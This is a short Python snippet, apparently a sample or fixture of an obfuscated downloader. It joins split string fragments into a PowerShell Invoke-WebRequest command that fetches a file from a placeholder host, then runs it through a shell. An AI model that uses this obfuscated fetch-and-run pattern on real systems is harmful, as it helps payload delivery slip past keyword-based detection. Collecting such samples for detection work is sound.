import subprocess
parts = ["po", "wer", "sh", "ell -NoP -C ", "\"iw", "r 'https://example.invalid/a' -OutFile a\""]
command = "".join(parts)
subprocess.run(command, shell=True)
